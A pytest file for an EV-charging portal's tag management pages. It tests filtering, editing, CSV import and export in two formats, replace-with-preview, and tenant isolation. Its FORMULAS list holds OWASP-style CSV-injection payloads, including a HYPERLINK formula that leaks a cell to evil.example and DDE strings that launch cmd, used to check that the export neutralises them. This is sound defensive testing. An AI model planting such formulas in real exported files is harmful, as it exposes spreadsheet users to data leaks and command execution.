"""Tags pages: the filtered list; add, edit, block and delete; CSV import (add and update, or
replace after a preview) with its report, CSV export in both formats."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select

from portal.extensions import db
from portal.models import ChargingSession, Role, Station, Tag, Tenant, User
from portal.models.base import utcnow
from portal.services import charging_sessions, tags
from tenants.scoping import tenant_scope
from tests.factories import Company, World, make_tenant
from tests.portal_client import PortalClient


def _admin(portal: Any, company: Company) -> PortalClient:
    client = portal(company)
    assert client.login(company.email(Role.ADMIN)).status_code == 302
    return client


def _import(client: PortalClient, content: str | bytes) -> Any:
    data = content.encode() if isinstance(content, str) else content
    return client.post("/tags/import", {"file": (io.BytesIO(data), "tags.csv")},
                       csrf_from="/tags/import", content_type="multipart/form-data")


def _tags(app: Flask, company: Company) -> dict[str, tuple[Any, ...]]:
    """Every tag of the company: id -> (parent, expiry, max active, blocked, note)."""
    with app.app_context(), tenant_scope(db.session.get(Tenant, company.tenant_id)):
        return {tag.id_tag: (tag.parent.id_tag if tag.parent else None, tag.expiry_at,
                             tag.max_active_transactions, tag.blocked, tag.note)
                for tag in db.session.scalars(select(Tag))}


def _add_tags(app: Flask, company: Company, *id_tags: str, **values: Any) -> None:
    with app.app_context():
        tenant = db.session.get(Tenant, company.tenant_id)
        with tenant_scope(tenant):
            for id_tag in id_tags:
                tags.add(tenant, id_tag, **values)
            db.session.commit()


def test_the_tags_list_filters_on_text_and_blocked(app: Flask, world: World, portal) -> None:
    _add_tags(app, world.a, "CARD-1", "CARD-2")
    _add_tags(app, world.a, "CARD-3", blocked=True)
    client = _admin(portal, world.a)
    page = client.get("/tags").get_data(as_text=True)
    assert all(id_tag in page for id_tag in ("CARD-1", "CARD-3", world.a.driver_tag))
    assert world.b.driver_tag not in page
    page = client.get("/tags?text=card&blocked=no").get_data(as_text=True)
    assert "CARD-1" in page and "CARD-2" in page
    assert "CARD-3" not in page and world.a.driver_tag not in page
    page = client.get("/tags?blocked=yes").get_data(as_text=True)
    assert "CARD-3" in page and "CARD-1" not in page
    assert "1 tags" in page  # the pager counts what the filters keep


def test_the_menu_leads_to_the_tags(world: World, portal) -> None:
    assert 'href="/tags"' in _admin(portal, world.a).get("/dashboard").get_data(as_text=True)


PORTAL_FILE = """tag,parent,expiry,max active,blocked,note
NEW-1,,2027-01-31T12:00:00Z,2,false,first card
NEW-2,NEW-1,,-1,no,child of a new tag
OLD,,2027-03-01,0,true,updated
THIS-TAG-IS-LONGER-THAN-20,,,1,false,too long
BAD-DATE,,31/12/2027,1,false,
BAD-BOOL,,,1,maybe,
BAD-MAX,,,many,false,
ORPHAN,NOBODY,,1,false,
NEW-1,,,1,false,again
SHORT,,,1
"""


def test_a_portal_csv_imports_its_good_rows_and_reports_each_bad_one(
    app: Flask, world: World, portal
) -> None:
    _add_tags(app, world.a, "OLD", note="before", max_active_transactions=1)
    before = _tags(app, world.a)
    response = _import(_admin(portal, world.a), PORTAL_FILE)
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "3 rows imported,\n  7 rejected (portal format)." in page
    rejected = page[page.index('id="rejected"'):page.index('id="accepted"')]
    for line, reason in [
        (5, "tag longer than 20 characters"),
        (6, "bad date &#39;31/12/2027&#39; (use YYYY-MM-DD or YYYY-MM-DDTHH:MM:SSZ)"),
        (7, "bad boolean &#39;maybe&#39; for blocked (use true or false)"),
        (8, "max active &#39;many&#39; is not a whole number"),
        (9, "unknown parent &#39;NOBODY&#39;"),
        (10, "duplicate of line 2 in this file"),
        (11, "expected 6 columns, found 4"),
    ]:
        assert f"<tr><td>{line}</td>" in rejected and reason in rejected, (line, reason)
    after = _tags(app, world.a)
    assert after["NEW-1"] == (None, datetime(2027, 1, 31, 12, tzinfo=UTC), 2, False,
                              "first card")
    assert after["NEW-2"] == ("NEW-1", None, -1, False, "child of a new tag")
    assert after["OLD"] == (None, datetime(2027, 3, 1, 23, 59, 59, 999999, tzinfo=UTC), 0, True,
                            "updated")
    # the bad rows changed nothing: no other tag came or went
    assert set(after) == set(before) | {"NEW-1", "NEW-2"}
    assert after[world.a.driver_tag] == before[world.a.driver_tag]


WHITELIST_FILE = """UID,GID,Expiry,Authorization
04A1B2C3D4,,2027-06-30T00:00:00Z,accepted
04A1B2C3D5,04A1B2C3D4,,Blocked
OLD,,,accepted
04A1B2C3D6,,,expired
04A1B2C3D7,MISSING,,accepted
04A1B2C3D8,,tomorrow,accepted
"""


def test_a_whitelist_csv_imports_its_good_rows_and_reports_each_bad_one(
    app: Flask, world: World, portal
) -> None:
    _add_tags(app, world.a, "OLD", blocked=True, note="kept", max_active_transactions=3)
    response = _import(_admin(portal, world.a), WHITELIST_FILE)
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "3 rows imported,\n  3 rejected (whitelist format)." in page
    assert "bad authorization &#39;expired&#39; (use accepted or blocked)" in page
    assert "unknown parent &#39;MISSING&#39;" in page
    assert "bad date &#39;tomorrow&#39;" in page
    after = _tags(app, world.a)
    assert after["04A1B2C3D4"] == (None, datetime(2027, 6, 30, tzinfo=UTC), 1, False, "")
    assert after["04A1B2C3D5"] == ("04A1B2C3D4", None, 1, True, "")
    assert after["OLD"] == (None, None, 3, False, "kept")  # what the format carries, no more
    assert not {"04A1B2C3D6", "04A1B2C3D7", "04A1B2C3D8"} & set(after)


def test_a_rejected_parent_rejects_its_children_too(app: Flask, world: World, portal) -> None:
    content = "UID,GID,Expiry,Authorization\nPARENT,,never,accepted\nCHILD,PARENT,,accepted\n"
    page = _import(_admin(portal, world.a), content).get_data(as_text=True)
    assert "0 rows imported,\n  2 rejected" in page
    assert "unknown parent &#39;PARENT&#39;" in page
    assert not {"PARENT", "CHILD"} & set(_tags(app, world.a))


def test_a_file_that_is_no_tags_csv_is_refused_whole(app: Flask, world: World, portal) -> None:
    before = _tags(app, world.a)
    client = _admin(portal, world.a)
    response = _import(client, "name,card\nA,B\n")
    assert response.status_code == 400
    assert "Unknown header" in response.get_data(as_text=True)
    response = _import(client, b"tag,parent,expiry,max active,blocked,note\n\xff\xfe,,,,,\n")
    assert response.status_code == 400
    assert "The file is not UTF-8 text." in response.get_data(as_text=True)
    response = client.post("/tags/import", {}, csrf_from="/tags/import")
    assert response.status_code == 400
    assert "Choose a CSV file." in response.get_data(as_text=True)
    assert _tags(app, world.a) == before


def test_an_oversized_upload_gets_413_and_stores_nothing(
    app: Flask, world: World, portal, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a small limit keeps the upload in memory (the test client spools big ones to files)
    monkeypatch.setitem(app.config, "TAG_IMPORT_MAX_KB", 4)
    before = _tags(app, world.a)
    rows = "".join(f"BIG-{number},,,1,false,{'x' * 40}\n" for number in range(100))
    content = "tag,parent,expiry,max active,blocked,note\n" + rows
    assert len(content) > 4 * 1024
    client = _admin(portal, world.a)
    response = _import(client, content)
    assert response.status_code == 413
    assert "larger than 4 KB (TAG_IMPORT_MAX_KB). Nothing was imported." in (
        response.get_data(as_text=True))
    assert _tags(app, world.a) == before
    assert "at most 4 KB" in client.get("/tags/import").get_data(as_text=True)


def test_export_and_import_round_trip_in_both_formats(app: Flask, world: World, portal) -> None:
    _add_tags(app, world.a, "FAMILY", expiry_at=datetime(2027, 5, 1, 8, 30, tzinfo=UTC),
              max_active_transactions=-1, note='a "quoted", note')
    _add_tags(app, world.a, "FAMILY-KID", parent_id_tag="FAMILY", blocked=True)
    source = _admin(portal, world.a)
    for csv_format in ("portal", "whitelist"):
        response = source.get(f"/tags/export?format={csv_format}")
        assert response.status_code == 200
        assert response.mimetype == "text/csv"
        assert response.is_streamed
        exported = response.get_data(as_text=True)
        assert world.b.driver_tag not in exported
        target = make_tenant(app)
        page = _import(_admin(portal, target), exported).get_data(as_text=True)
        assert "0 rejected" in page
        copied, original = _tags(app, target), _tags(app, world.a)
        if csv_format == "portal":
            assert copied == original
        else:  # the whitelist carries parent, expiry and blocked only
            assert {tag: values[:2] + values[3:4] for tag, values in copied.items()} == {
                tag: values[:2] + values[3:4] for tag, values in original.items()}
        again = _admin(portal, target).get(f"/tags/export?format={csv_format}")
        assert again.get_data(as_text=True) == exported


def test_the_whitelist_export_reads_as_stations_expect(app: Flask, world: World, portal) -> None:
    _add_tags(app, world.a, "W-1", expiry_at=datetime(2027, 5, 1, 8, 30, tzinfo=UTC))
    _add_tags(app, world.a, "W-2", parent_id_tag="W-1", blocked=True)
    exported = _admin(portal, world.a).get("/tags/export?format=whitelist").get_data(as_text=True)
    lines = exported.splitlines()
    assert lines[0] == "UID,GID,Expiry,Authorization"
    assert "W-1,,2027-05-01T08:30:00Z,accepted" in lines
    assert "W-2,W-1,,blocked" in lines


# What OWASP's "CSV Injection" lists: each runs as a formula in a spreadsheet.
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1")


def _exported_rows(client: PortalClient, csv_format: str) -> dict[str, list[str]]:
    response = client.get(f"/tags/export?format={csv_format}")
    assert response.status_code == 200
    return {cells[0]: cells for cells in csv.reader(io.StringIO(response.get_data(as_text=True)))}


def test_the_export_quotes_every_cell_a_spreadsheet_would_run_as_a_formula(
    app: Flask, world: World, portal
) -> None:
    for number, formula in enumerate(FORMULAS):
        _add_tags(app, world.a, f"F-{number}", note=formula, max_active_transactions=-1)
    _add_tags(app, world.a, "-1+1", parent_id_tag="F-0", note="'=already quoted")
    client = _admin(portal, world.a)
    rows = _exported_rows(client, "portal")
    for number, formula in enumerate(FORMULAS):
        # a number stays a number: -1 is no formula
        assert rows[f"F-{number}"] == [f"F-{number}", "", "", "-1", "false", "'" + formula]
    assert rows["'-1+1"] == ["'-1+1", "F-0", "", "1", "false", "''=already quoted"]
    whitelist = _exported_rows(client, "whitelist")
    assert whitelist["'-1+1"] == ["'-1+1", "F-0", "", "accepted"]
    assert whitelist["F-0"] == ["F-0", "", "", "accepted"]


def test_a_round_trip_keeps_text_that_looks_like_a_formula(
    app: Flask, world: World, portal
) -> None:
    for number, formula in enumerate(FORMULAS):
        _add_tags(app, world.a, f"F-{number}", note=formula)
    _add_tags(app, world.a, "-1+1", note="'=already quoted")
    _add_tags(app, world.a, "'QUOTED", note="'just a quote")
    exported = _admin(portal, world.a).get("/tags/export").get_data(as_text=True)
    target = make_tenant(app)
    page = _import(_admin(portal, target), exported).get_data(as_text=True)
    assert "0 rejected" in page
    assert _tags(app, target) == _tags(app, world.a)
    # importing such text keeps it: it means nothing in the portal, only in a spreadsheet
    assert _tags(app, target)["F-0"][4] == FORMULAS[0]


# --- Add, edit, block and delete -----------------------------------------------------------

def _query(app: Flask, company: Company, read: Any) -> Any:
    with app.app_context(), tenant_scope(db.session.get(Tenant, company.tenant_id)):
        return read()


def _tag_id(app: Flask, company: Company, id_tag: str) -> int:
    return _query(app, company, lambda: tags.find(id_tag).id)


def _user_id(app: Flask, company: Company, role: Role) -> int:
    email = company.email(role)
    return _query(app, company, lambda: db.session.scalar(
        select(User.id).where(User.email == email)))


def _tag_form(**values: str) -> dict[str, str]:
    return {"id_tag": "", "parent": "", "expiry": "", "max_active": "1", "owner": "",
            "note": "", **values}


def _set_time_zone(app: Flask, company: Company, zone: str) -> None:
    with app.app_context():
        db.session.get(Tenant, company.tenant_id).time_zone = zone
        db.session.commit()


def test_an_administrator_adds_a_tag_with_every_value(app: Flask, world: World, portal) -> None:
    _add_tags(app, world.a, "FLEET")
    _set_time_zone(app, world.a, "Europe/Brussels")
    client = _admin(portal, world.a)
    assert "EV user" in client.get("/tags/new").get_data(as_text=True)
    driver = _user_id(app, world.a, Role.EV_USER)
    response = client.post("/tags/new", _tag_form(
        id_tag=" CAR-1 ", parent="fleet", expiry="2027-02-01T10:30", max_active="-1",
        owner=str(driver), note="the red car", blocked="y"), csrf_from="/tags/new")
    assert response.status_code == 302 and response.headers["Location"] == "/tags"
    page = client.get("/tags").get_data(as_text=True)
    assert "Tag CAR-1 is added." in page and world.a.email(Role.EV_USER) in page
    # typed in the company's time zone (UTC+1 in February), stored in UTC
    assert _tags(app, world.a)["CAR-1"] == (
        "FLEET", datetime(2027, 2, 1, 9, 30, tzinfo=UTC), -1, True, "the red car")


def test_an_administrator_edits_blocks_unblocks_and_renames_a_tag(
    app: Flask, world: World, portal
) -> None:
    _add_tags(app, world.a, "CARD-1", note="before")
    tag_id = _tag_id(app, world.a, "CARD-1")
    client = _admin(portal, world.a)
    form = client.get(f"/tags/{tag_id}/edit").get_data(as_text=True)
    assert 'value="CARD-1"' in form and "before" in form
    response = client.post(f"/tags/{tag_id}/edit", _tag_form(
        id_tag="CARD-ONE", max_active="3", note="after"), csrf_from=f"/tags/{tag_id}/edit")
    assert response.status_code == 302
    assert _tags(app, world.a)["CARD-ONE"] == (None, None, 3, False, "after")
    assert client.post(f"/tags/{tag_id}/block", csrf_from="/tags").status_code == 302
    assert _tags(app, world.a)["CARD-ONE"][3] is True
    page = client.get("/tags?blocked=yes").get_data(as_text=True)
    assert "Tag CARD-ONE is blocked" in page and "Unblock CARD-ONE" in page
    client.post(f"/tags/{tag_id}/unblock", csrf_from="/tags")
    assert _tags(app, world.a)["CARD-ONE"][3] is False


def test_deleting_a_tag_keeps_its_charging_sessions(app: Flask, world: World, portal) -> None:
    tag_id = _tag_id(app, world.a, world.a.driver_tag)
    client = _admin(portal, world.a)
    confirmation = client.get(f"/tags/{tag_id}/delete").get_data(as_text=True)
    assert "Its 1 charging session stay" in confirmation
    response = client.post(f"/tags/{tag_id}/delete", csrf_from=f"/tags/{tag_id}/delete")
    assert response.status_code == 302
    assert "its charging sessions are kept" in client.get("/tags").get_data(as_text=True)
    assert world.a.driver_tag not in _tags(app, world.a)
    kept = _query(app, world.a, lambda: [(s.id_tag, s.tag_id) for s in db.session.scalars(
        select(ChargingSession).where(ChargingSession.id_tag == world.a.driver_tag))])
    assert kept == [(world.a.driver_tag, None)]


def test_a_parent_is_not_deleted_while_it_has_children(app: Flask, world: World, portal) -> None:
    _add_tags(app, world.a, "FLEET")
    _add_tags(app, world.a, "CAR-1", "CAR-2", parent_id_tag="FLEET")
    tag_id = _tag_id(app, world.a, "FLEET")
    client = _admin(portal, world.a)
    assert "It is the parent of CAR-1, CAR-2" in client.get(
        f"/tags/{tag_id}/delete").get_data(as_text=True)
    response = client.post(f"/tags/{tag_id}/delete", csrf_from=f"/tags/{tag_id}/delete")
    assert response.status_code == 409
    assert "Tag FLEET is the parent of CAR-1, CAR-2: give them another parent" in (
        response.get_data(as_text=True))
    assert "FLEET" in _tags(app, world.a)


def test_another_companys_tag_is_not_found(app: Flask, world: World, portal) -> None:
    foreign = _tag_id(app, world.b, world.b.driver_tag)
    client = _admin(portal, world.a)
    for path in (f"/tags/{foreign}/edit", f"/tags/{foreign}/delete"):
        assert client.get(path).status_code == 404
    for path in (f"/tags/{foreign}/block", f"/tags/{foreign}/delete"):
        assert client.post(path, csrf_from="/tags").status_code == 404
    assert _tags(app, world.b)[world.b.driver_tag][3] is False


@pytest.mark.parametrize(("values", "field", "message"), [
    ({"id_tag": "T" * 21}, "id_tag", "Field cannot be longer than 20 characters."),
    ({"id_tag": ""}, "id_tag", "Enter the idTag."),
    ({"id_tag": "existing"}, "id_tag", "Tag EXISTING already exists."),
    ({"max_active": "99999999999"}, "max_active", "Number must be between"),
    ({"max_active": "many"}, "max_active", "Not a valid integer value."),
    ({"parent": "NOBODY"}, "parent", "No parent tag NOBODY."),
    ({"expiry": "31/12/2027"}, "expiry", "Not a valid datetime value."),
    ({"owner": "FOREIGN"}, "owner", "Not a valid choice."),
    ({"owner": "ADMIN"}, "owner", "Not a valid choice."),
    ({"note": "n" * 2001}, "note", "Field cannot be longer than 2000 characters."),
])
def test_bad_tag_values_get_a_message_next_to_the_field_and_store_nothing(
    app: Flask, world: World, portal, values: dict[str, str], field: str, message: str
) -> None:
    _add_tags(app, world.a, "EXISTING", "OTHER")
    client = _admin(portal, world.a)
    users = {"FOREIGN": str(_user_id(app, world.b, Role.EV_USER)),
             "ADMIN": str(_user_id(app, world.a, Role.ADMIN))}
    if "owner" in values:
        values = {"owner": users[values["owner"]]}
    before = _tags(app, world.a)
    for path in ("/tags/new", f"/tags/{_tag_id(app, world.a, 'OTHER')}/edit"):
        response = client.post(path, _tag_form(**{"id_tag": "NEW", **values}), csrf_from=path)
        assert 400 <= response.status_code < 500, (path, response.status_code)
        page = response.get_data(as_text=True)
        feedback = page[page.index(f'id="{field}"'):]
        assert message in feedback[:feedback.index("</div>") + 200], (path, field)
        assert _tags(app, world.a) == before


def test_a_tag_cannot_become_the_child_of_its_descendant(app: Flask, world: World, portal) -> None:
    _add_tags(app, world.a, "TOP")
    _add_tags(app, world.a, "MIDDLE", parent_id_tag="TOP")
    _add_tags(app, world.a, "BOTTOM", parent_id_tag="MIDDLE")
    path = f"/tags/{_tag_id(app, world.a, 'TOP')}/edit"
    client = _admin(portal, world.a)
    response = client.post(path, _tag_form(id_tag="TOP", parent="bottom"), csrf_from=path)
    assert response.status_code == 422
    assert "BOTTOM cannot be the parent of TOP" in response.get_data(as_text=True)
    response = client.post(path, _tag_form(id_tag="TOP", parent="TOP"), csrf_from=path)
    assert response.status_code == 422
    assert "TOP cannot be the parent of TOP: it is the tag itself" in (
        response.get_data(as_text=True))
    assert _tags(app, world.a)["TOP"][0] is None


def test_a_nul_character_in_a_tag_form_is_refused_and_stores_nothing(
    app: Flask, world: World, portal
) -> None:
    before = _tags(app, world.a)
    response = _admin(portal, world.a).post("/tags/new", _tag_form(id_tag="NUL\x00TAG"),
                                            csrf_from="/tags/new")
    assert response.status_code == 400
    assert "NUL character" in response.get_data(as_text=True)
    assert _tags(app, world.a) == before


# --- Filters ---------------------------------------------------------------------------------

def _rows(client: PortalClient, query: str) -> set[str]:
    page = client.get(f"/tags?{query}").get_data(as_text=True)
    return set(re.findall(r'<tr data-tag="([^"]+)">', page))


def _charging(app: Flask, company: Company, id_tag: str) -> None:
    with app.app_context():
        tenant = db.session.get(Tenant, company.tenant_id)
        with tenant_scope(tenant):
            station = db.session.scalar(select(Station).where(
                Station.charge_box_id == company.station_site1))
            tag = tags.find(id_tag)
            charging_sessions.number(ChargingSession(
                tenant_id=tenant.id, station=station, outlet=station.outlets[0], id_tag=id_tag,
                tag=tag, started_at=utcnow() - timedelta(minutes=5), meter_start=0))
            db.session.commit()


def test_the_list_filters_on_parent_expiry_charging_and_owner(
    app: Flask, world: World, portal
) -> None:
    _add_tags(app, world.a, "FLEET", expiry_at=utcnow() - timedelta(days=1))
    _add_tags(app, world.a, "CAR-1", "CAR-2", parent_id_tag="FLEET")
    _charging(app, world.a, "CAR-2")
    client = _admin(portal, world.a)
    everyone = {"FLEET", "CAR-1", "CAR-2", world.a.driver_tag}
    assert _rows(client, "") == everyone
    assert _rows(client, "parent=fleet") == {"CAR-1", "CAR-2"}
    assert _rows(client, "expired=yes") == {"FLEET"}
    assert _rows(client, "expired=no") == everyone - {"FLEET"}
    assert _rows(client, "charging=yes") == {"CAR-2"}
    assert _rows(client, "charging=no&parent=FLEET") == {"CAR-1"}
    driver = _user_id(app, world.a, Role.EV_USER)
    assert _rows(client, f"owner={driver}") == {world.a.driver_tag}
    # a value that is no choice is shown as an error and not applied
    page = client.get(f"/tags?owner={_user_id(app, world.b, Role.EV_USER)}")
    assert page.status_code == 200 and "Not a valid choice." in page.get_data(as_text=True)


# --- Replace import ------------------------------------------------------------------------

def _preview(client: PortalClient, content: str) -> Any:
    return client.post("/tags/import", {"file": (io.BytesIO(content.encode()), "tags.csv"),
                                        "mode": "replace"},
                       csrf_from="/tags/import", content_type="multipart/form-data")


def _confirmation(page: str) -> dict[str, str]:
    form = page[page.index('id="confirm-replace"'):]
    return {name: re.search(rf'name="{name}" type="hidden" value="([^"]*)"', form).group(1)
            for name in ("csrf_token", "content", "removal_key")}


REPLACEMENT = """tag,parent,expiry,max active,blocked,note
KEEP,,,1,false,updated
new-1,KEEP,,1,false,added
BAD,,tomorrow,1,false,a bad row keeps its tag
"""


def test_replace_shows_what_it_removes_then_removes_it_keeping_sessions(
    app: Flask, world: World, portal
) -> None:
    _add_tags(app, world.a, "keep", "GONE-1", "GONE-2", "BAD")
    before = _tags(app, world.a)
    client = _admin(portal, world.a)
    response = _preview(client, REPLACEMENT)
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "Preview: nothing has changed yet." in page
    assert "adds 1, updates 1 and removes 3\n  tags; 1 row\n  rejected" in page
    removed = page[page.index('id="removed"'):page.index("</ul>", page.index('id="removed"'))]
    assert re.findall(r"<li>([^<]+)</li>", removed) == sorted(
        ["GONE-1", "GONE-2", world.a.driver_tag])
    assert _tags(app, world.a) == before  # a preview changes nothing
    response = client.post("/tags/import/replace", _confirmation(page),
                           content_type="multipart/form-data")
    assert response.status_code == 200
    assert "3 tags removed." in response.get_data(as_text=True)
    after = _tags(app, world.a)
    assert set(after) == {"keep", "new-1", "BAD"}  # the existing spelling stays
    assert after["keep"][4] == "updated" and after["new-1"][0] == "keep"
    kept = _query(app, world.a, lambda: db.session.scalars(select(ChargingSession.id_tag)).all())
    assert kept == [world.a.driver_tag]
    assert world.b.driver_tag in _tags(app, world.b)  # another company's tags are not touched


def test_a_replace_confirmed_after_the_tags_changed_previews_again(
    app: Flask, world: World, portal
) -> None:
    client = _admin(portal, world.a)
    confirmation = _confirmation(_preview(client, REPLACEMENT).get_data(as_text=True))
    _add_tags(app, world.a, "LATE")  # added by someone else after the preview
    before = _tags(app, world.a)
    response = client.post("/tags/import/replace", confirmation,
                           content_type="multipart/form-data")
    assert response.status_code == 409
    page = response.get_data(as_text=True)
    assert "The company&#39;s tags changed since the preview" in page
    assert "<li>LATE</li>" in page
    assert _tags(app, world.a) == before
    response = client.post("/tags/import/replace", _confirmation(page),
                           content_type="multipart/form-data")
    assert response.status_code == 200 and "LATE" not in _tags(app, world.a)


def test_a_replace_confirmation_that_is_not_a_previewed_file_is_refused(
    app: Flask, world: World, portal
) -> None:
    before = _tags(app, world.a)
    client = _admin(portal, world.a)
    confirmation = _confirmation(_preview(client, REPLACEMENT).get_data(as_text=True))
    response = client.post("/tags/import/replace", {**confirmation, "content": "not base64!"},
                           content_type="multipart/form-data")
    assert response.status_code == 400
    assert "did not come back whole" in response.get_data(as_text=True)
    assert _tags(app, world.a) == before


def test_an_import_matches_idtags_in_any_case(app: Flask, world: World, portal) -> None:
    _add_tags(app, world.a, "04a1b2", note="kept spelling")
    content = "UID,GID,Expiry,Authorization\n04A1B2,,,blocked\n04a1B2,,,accepted\n"
    page = _import(_admin(portal, world.a), content).get_data(as_text=True)
    assert "1 row imported,\n  1 rejected" in page and "duplicate of line 2" in page
    assert _tags(app, world.a)["04a1b2"] == (None, None, 1, True, "kept spelling")
